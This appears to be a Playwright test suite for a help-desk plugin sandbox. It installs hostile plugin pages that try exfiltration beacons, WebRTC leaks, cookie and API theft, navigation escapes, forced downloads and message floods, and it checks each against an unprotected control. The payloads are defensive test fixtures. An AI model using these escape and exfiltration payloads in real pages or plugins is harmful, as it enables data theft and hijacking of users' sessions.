"""Documents of a plugin that try to get out of their frame, each beside a control.

A control shows the same attack on a page without our protection, where it succeeds: so that a test
cannot pass because an attack never worked. Each attack says when it has tried everything.
"""

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.desk import Desk
from tests.browser.spy import Spy, running_spy
from tests.goatkit_modules import goatkit_module

Open = Callable[..., Any]
PAUSE_MS = 1_200
"""How long an attack waits for what it began; its control has succeeded within that."""
BLOCKED = (
    *("Blocked", "sandbox", "Content Security", "Unsafe", "Framing", "Refused", "violates"),
    *("Failed to load", "ERR_", "not allowed", "cross-origin", "Ignored call", "Download is"),
)
DONE = f"""
const done = (text) => {{
  document.getElementById("mark").textContent = `Done: ${{text}}`;
}};
const pause = (ms = {PAUSE_MS}) => new Promise((resolve) => setTimeout(resolve, ms));
"""


def script(body: str) -> str:
    return f'<p id="mark">Attack</p><script>{DONE}(async () => {{ {body} }})();</script>'


def attacks(spy: Spy) -> dict[str, str]:
    """Return the attacks by name; each name begins with a letter of its own."""
    evil = spy.origin
    return {
        # Everything that sends without leaving the page.
        "beacons": f'<link rel="stylesheet" href="{evil}/css">'
        f'<link rel="prefetch" href="{evil}/pre">'
        f'<base href="{evil}/"><img src="base"><img src="{evil}/img">'
        f'<style>body {{ background: url("{evil}/background") }}</style>'
        f'<script src="{evil}/script.js"></script>'
        f'<video src="{evil}/video"></video><object data="{evil}/object"></object>'
        f'<iframe src="{evil}/iframe"></iframe>'
        + script(
            f"""
            const quietly = async (action) => {{ try {{ await action(); }} catch {{ }} }};
            const native = window.fetch;
            await quietly(() => native("{evil}/fetch", {{ mode: "no-cors" }}));
            await quietly(() => navigator.sendBeacon("{evil}/beacon", "x"));
            await quietly(() => new EventSource("{evil}/events"));
            await quietly(() => {{
              const request = new XMLHttpRequest();
              request.open("POST", "{evil}/xhr");
              request.send("x");
            }});
            await quietly(() => import("{evil}/module.js"));
            await quietly(() => new Worker(URL.createObjectURL(
              new Blob(['fetch("{evil}/worker", {{ mode: "no-cors" }})'])
            )));
            await pause();
            done("all tried");
            """
        ),
        "calls": script(  # WebRTC, its own and that of frames inside
            f"""
            const dial = (Connection) => {{
              const peer = new Connection({{
                iceServers: [{{ urls: "stun:127.0.0.1:{spy.udp_port}" }}],
              }});
              peer.createDataChannel("x");
              peer.createOffer().then((offer) => peer.setLocalDescription(offer));
            }};
            try {{ dial(RTCPeerConnection); }} catch {{ }}
            for (const kind of ["plain", "shadow"]) {{
              const frame = document.createElement("iframe");
              frame.srcdoc = `<script>(${{dial}})(RTCPeerConnection)<\\/script>`;
              const holder = document.createElement("div");
              document.body.append(holder);
              if (kind === "plain") holder.append(frame);
              else holder.attachShadow({{ mode: "closed" }}).append(frame);
              try {{ dial(frame.contentWindow.RTCPeerConnection); }} catch {{ }}
            }}
            const until = performance.now() + 300;
            while (performance.now() < until) {{ }}
            await pause();
            done("all tried");
            """
        ),
        "nested": f"""<div><template shadowrootmode="open"><iframe srcdoc='<script>
            const peer = new RTCPeerConnection(
              {{ iceServers: [{{ urls: "stun:127.0.0.1:{spy.udp_port}" }}] }});
            peer.createDataChannel("x");
            peer.createOffer().then((offer) => peer.setLocalDescription(offer));
            </script>'></iframe></template></div>"""
        + script("await pause(); done('all tried');"),
        "steal": script(
            """
            const taken = [];
            const attempt = async (name, action) => {
              try { if (await action() !== false) taken.push(name); } catch { }
            };
            await attempt("cookie", () => document.cookie.includes("="));
            await attempt("storage", () => localStorage.setItem("a", "b"));
            await attempt("database", () => indexedDB.open("a"));
            await attempt("parent", () => { parent.document.title = "Taken"; });
            await attempt("opener", () => parent.location.href.length > 0);
            await attempt("worker", async () => {
              await navigator.serviceWorker.register("/sw.js");
            });
            await attempt("api", async () => (await fetch("/api/me")).ok);
            await attempt("post", async () => (await fetch("/api/tickets", {
              method: "POST",
              headers: { "Content-Type": "application/json" },
              body: JSON.stringify({ subject: "Taken", description: "" }),
            })).ok);
            await attempt("ask", () => { alert("Your password?"); return shown; });
            done(taken.join(" ") || "nothing");
            """.replace("return shown;", "return window.isSecureContext && origin !== 'null';")
        ),
        "top": script(
            f'try {{ top.location = "{evil}/top"; }} catch {{ }} await pause(); done("");'
        ),
        "leave": script(f'location = "{evil}/leave"; await pause(); done("");'),
        "meta": f'<meta http-equiv="refresh" content="0;url={evil}/meta">'
        + script('await pause(); done("");'),
        "open": script(f'try {{ open("{evil}/open"); }} catch {{ }} await pause(); done("");'),
        "form": f'<form id="f" target="_top" method="post" action="{evil}/form"><button></form>'
        + script(
            """
            const form = document.getElementById("f");
            form.addEventListener("submit", (event) => event.stopImmediatePropagation());
            form.requestSubmit();
            await pause(); done("");
            """
        ),
        "link": f'<a id="l" target="_blank" href="{evil}/link">x</a>'
        + script(
            """
            addEventListener("click", (event) => event.stopImmediatePropagation(), true);
            document.getElementById("l").click();
            await pause(); done("");
            """
        ),
        "download": '<a id="d" download="taken.txt" href="data:text/plain,taken">x</a>'
        + script(
            """
            addEventListener("click", (event) => event.stopImmediatePropagation(), true);
            document.getElementById("d").click();
            await pause(); done("");
            """
        ),
        "quarrel": script(
            """
            const flood = (at) => parent.postMessage({ goatkit: 1, height: at }, "*");
            done("");
            // For as long as it lives: the page may not listen yet.
            for (;; await pause(50)) for (let at = 0; at < 2000; at += 1) flood(at);
            """
        ),
        "endless": '<p id="mark">Attack</p><script>for (;;) { }</script>',
    }


@pytest.fixture(scope="module")
def spy() -> Iterator[Spy]:
    with running_spy() as running:
        running.attacks = attacks(running)
        yield running


@pytest.fixture(scope="module")
def hostile(desk: Desk, spy: Spy) -> Iterator[None]:
    """Install a plugin with a page for each attack."""
    letters = dict(zip("abcdefghijkmnopqrstuvwxyz", spy.attacks, strict=False))
    module = goatkit_module(
        {
            "name": "hostile",
            "routes": [
                {
                    "method": "GET",
                    "path": f"/hostile/{name}",
                    "handler": letter,
                    "middleware": ["auth"],
                }
                for letter, name in letters.items()
            ],
        },
        {letter: {"html": spy.attacks[name]} for letter, name in letters.items()},
    )
    plugin_id = desk.install(module)
    yield
    desk.uninstall(plugin_id)


@pytest.fixture
def attack(open_page: Open, spy: Spy, hostile: None, controls: list[Any]) -> Callable[[str], Any]:
    """Return a function that shows an attack in the help desk, until it has tried everything."""

    def shown(name: str) -> Any:
        while controls:
            controls.pop().close()
        spy.forget()
        page = open_page("staff", f"/hostile/{name}", expected=BLOCKED)
        mark = page.frame_locator("iframe.plugin-page").locator("#mark")
        expect(mark).to_contain_text("Done:")
        assert page.url.endswith(f"/hostile/{name}")
        assert len(page.context.pages) == 1
        return page

    return shown


@pytest.fixture
def controls() -> Iterator[list[Any]]:
    """Return the browser contexts of controls."""
    contexts: list[Any] = []
    yield contexts
    for context in contexts:
        context.close()


@pytest.fixture
def control(chromium: Any, spy: Spy, controls: list[Any]) -> Callable[[str], Any]:
    """Return a function that shows an attack where nothing keeps it from succeeding."""

    def shown(name: str) -> Any:
        spy.forget()
        context = chromium.new_context()
        controls.append(context)
        page = context.new_page()
        page.on("dialog", lambda dialog: dialog.dismiss())
        page.goto(spy.victim(name))
        return page

    return shown


def test_nothing_in_a_document_sends_anything_elsewhere(
    attack: Callable[[str], Any], control: Callable[[str], Any], spy: Spy
) -> None:
    control("beacons")
    spy.wait(
        *("/css", "/pre", "/base", "/img", "/background", "/script.js", "/object", "/iframe"),
        *("/fetch", "/beacon", "/events", "/xhr", "/module.js"),
    )
    attack("beacons")
    assert spy.seen() == set()


@pytest.mark.parametrize("name", ["calls", "nested"])
def test_a_document_makes_no_connections_by_webrtc(
    attack: Callable[[str], Any], control: Callable[[str], Any], spy: Spy, name: str
) -> None:
    control(name)
    spy.wait("udp")
    attack(name)
    assert spy.seen() == set()


def test_a_document_reads_and_changes_nothing_of_ours(
    attack: Callable[[str], Any], control: Callable[[str], Any], desk: Desk
) -> None:
    mark = control("steal").frame_locator("iframe").locator("#mark")
    expect(mark).to_have_text("Done: cookie storage database parent opener worker api post ask")
    before = desk.call("GET", "/api/tickets")["total"]
    page = attack("steal")
    expect(page.frame_locator("iframe.plugin-page").locator("#mark")).to_have_text("Done: nothing")
    assert "Taken" not in page.title()
    assert desk.call("GET", "/api/tickets")["total"] == before


@pytest.mark.parametrize("name", ["top", "open", "form", "link"])
def test_a_document_leads_nobody_elsewhere(
    attack: Callable[[str], Any], control: Callable[[str], Any], spy: Spy, name: str
) -> None:
    control(name)
    if name not in {"open", "link"}:  # which browsers allow nowhere without a click
        spy.wait(f"/{name}")
    attack(name)
    assert spy.seen() == set()


@pytest.mark.parametrize("name", ["leave", "meta"])
def test_a_document_cannot_take_itself_elsewhere(
    open_page: Open,
    hostile: None,
    control: Callable[[str], Any],
    controls: list[Any],
    spy: Spy,
    name: str,
) -> None:
    control(name)
    spy.wait(f"/{name}")
    controls.pop().close()
    spy.forget()
    page = open_page("staff", "/tickets", expected=BLOCKED)
    with page.expect_console_message(lambda said: "frame-src" in said.text):
        page.goto(f"/hostile/{name}")
    assert spy.seen() == set()


def test_a_document_downloads_nothing_by_itself(
    attack: Callable[[str], Any], control: Callable[[str], Any]
) -> None:
    page = control("download")
    with page.expect_download() as download:
        page.reload()
    assert download.value.suggested_filename == "taken.txt"
    came: list[str] = []

    def note(download: Any) -> None:
        came.append(download.suggested_filename)

    page = attack("download")
    page.on("download", note)
    page.reload()
    expect(page.frame_locator("iframe.plugin-page").locator("#mark")).to_contain_text("Done:")
    assert came == []


def test_a_flood_of_messages_ends_the_frame_and_nothing_else(
    open_page: Open, hostile: None
) -> None:
    page = open_page("staff", "/hostile/quarrel", expected=BLOCKED)
    expect(page.get_by_text("The plugin sent too many messages and was stopped.")).to_be_visible()
    expect(page.locator("iframe.plugin-page")).to_have_count(0)
    page.get_by_role("link", name="New ticket").click()
    page.wait_for_url("**/tickets/new")


def test_a_document_that_never_ends_leaves_the_page_to_work(open_page: Open, hostile: None) -> None:
    page = open_page("staff", "/tickets", expected=BLOCKED)
    page.goto("/hostile/endless", wait_until="commit")
    page.get_by_role("link", name="New ticket").click()
    page.wait_for_url("**/tickets/new")
